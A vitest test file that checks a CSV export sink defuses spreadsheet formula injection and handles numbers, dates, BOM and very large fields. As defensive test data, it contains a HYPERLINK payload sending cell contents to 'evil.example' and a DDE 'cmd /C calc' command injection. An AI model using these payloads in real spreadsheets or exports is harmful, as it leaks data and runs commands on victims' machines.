import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterEach, describe, expect, it } from 'vitest';
import { csvField, csvFileSink } from '../../src/files/report-files';
import type { ExportCell } from '../../src/files/sheet-sink';

const dirs: string[] = [];
afterEach(() => {
  for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
});

/** Writes rows through the export's CSV sink and reads them back with a spreadsheet's CSV reader (exceljs). */
async function roundTrip(rows: readonly (readonly (string | number | null)[])[]) {
  const dir = mkdtempSync(join(tmpdir(), 'thidua-csv-'));
  dirs.push(dir);
  const file = join(dir, 'export.csv');
  const sink = csvFileSink(file);
  for (const row of rows) sink.row(row);
  await sink.finish();
  const sheet = await new ExcelJS.Workbook().csv.readFile(file);
  const read: unknown[][] = [];
  sheet.eachRow({ includeEmpty: true }, (row) => {
    read.push((row.values as unknown[]).slice(1));
  });
  return { text: readFileSync(file, 'utf8'), read };
}

const DANGEROUS = ['=', '+', '-', '@', '\t', '\r'];

describe('CSV: formula injection (OWASP)', () => {
  it("quotes and prefixes with ' every text cell starting with =, +, -, @, tab or carriage return", async () => {
    const payloads = DANGEROUS.flatMap((start) => [
      `${start}HYPERLINK("http://evil.example/?leak="&A2,"Bấm vào đây")`,
      `${start}cmd|' /C calc'!A0`,
      `${start}1+1`,
      start,
    ]);
    const { text, read } = await roundTrip(payloads.map((payload) => ['PC06', payload, 5]));
    const lines = text
      .replace(/^\uFEFF/, '')
      .split('\r\n')
      .slice(0, -1);
    expect(lines).toHaveLength(payloads.length);
    for (const [i, payload] of payloads.entries()) {
      expect(lines[i]?.split(',')[1]?.startsWith(`"'`), JSON.stringify(payload)).toBe(true);
      // Read back: the text as typed behind its ', never a formula; the cells around it untouched.
      expect(read[i], JSON.stringify(payload)).toEqual(['PC06', `'${payload}`, 5]);
    }
  });

  it('keeps numbers (negative ones too) as numbers and plain text as it was', async () => {
    const { read } = await roundTrip([
      [-12, 0, 1400.5, 'Nguyễn Văn An', 'a, "b"', null],
      ['Đội 1', 'x=1', 'a-b', 'e@mail', 7, ''],
    ]);
    expect(read[0]?.slice(0, 5)).toEqual([-12, 0, 1400.5, 'Nguyễn Văn An', 'a, "b"']);
    expect(read[1]?.slice(0, 5)).toEqual(['Đội 1', 'x=1', 'a-b', 'e@mail', 7]);
  });

  it('is one rule for every field: dates as dd/mm/yyyy, a date-like text starting with - still guarded', () => {
    expect(csvField({ day: '2026-11-23' })).toBe('23/11/2026');
    expect(csvField(-5)).toBe('-5');
    expect(csvField('-5')).toBe(`"'-5"`);
    expect(csvField('=1"2')).toBe(`"'=1""2"`);
    expect(csvField(null)).toBe('');
  });
});

describe('CSV: the file', () => {
  it('is csvField of every cell, comma-separated, CRLF-ended, in UTF-8 after a BOM, however many texts it remembers', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'thidua-csv-'));
    dirs.push(dir);
    const file = join(dir, 'export.csv');
    const odd = ['', 'Đội 1', 'a, "b"', '=1+1', '-5', ' lề ', 'x\r\ny', '😀 lone\ud800', 'ệ'.repeat(121)];
    // More distinct texts than the writer remembers (50,000), repeated ones, days, numbers and empty cells.
    const rows: ExportCell[][] = [[]];
    for (let i = 0; i < 60_000; i++)
      rows.push([
        { day: `2026-03-${String(1 + (i % 31)).padStart(2, '0')}` },
        `ghi chú ${i}`,
        odd[i % odd.length] ?? null,
        i % 3 === 0 ? null : i * 0.5 - 7,
        `Đội ${i % 40}`,
      ]);
    // A field larger than the writer's buffer (256 KiB).
    rows.push([Number.NaN, -0, 1e21, null, 'ệ'.repeat(100_000)]);
    const sink = csvFileSink(file);
    for (const [index, row] of rows.entries()) {
      sink.row(row);
      if (index % 500 === 0) await sink.flush?.();
    }
    await sink.finish();
    const expected = `\uFEFF${rows.map((row) => `${row.map(csvField).join(',')}\r\n`).join('')}`;
    expect(readFileSync(file).equals(Buffer.from(expected, 'utf8'))).toBe(true);
  });
});
